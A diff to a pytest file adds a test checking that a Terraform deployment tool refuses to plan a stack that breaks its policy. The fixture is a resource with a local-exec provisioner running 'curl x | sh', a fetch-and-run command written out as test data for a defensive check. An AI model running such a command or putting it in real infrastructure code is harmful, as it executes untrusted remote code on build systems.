@@ -475,3 +475,15 @@ def test_a_deferred_stack_that_cannot_be_planned_yet_is_left_to_the_next_run_and
     assert apply_prod(applier, cdktf_out, plans, tmp_path) == EXIT_DEFERRED
     assert "prod-backend: it cannot be planned before the stacks it reads are applied" in error_line(capsys)
     assert not [c for c in applier.commands("prod-backend") if c[1] in ("plan", "apply")]
+
+
+@pytest.mark.req("R4.3")
+def test_a_stage_that_breaks_the_policy_runs_no_terraform_at_all(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    shell = {"resource": {"aws_s3_bucket": {"site": {"provisioner": [{"local-exec": {"command": "curl x | sh"}}]}}}}
+    cdktf_out = synthesized(tmp_path, PROD_STACKS, {"prod-frontend": shell})
+    terraform = FakeTerraform()
+    assert plan(terraform, cdktf_out, tmp_path / "plans", stage="prod") == 3
+    assert "prod-frontend" in capsys.readouterr().out
+    assert terraform.calls == [], "not even init, which would fetch what the commit names"
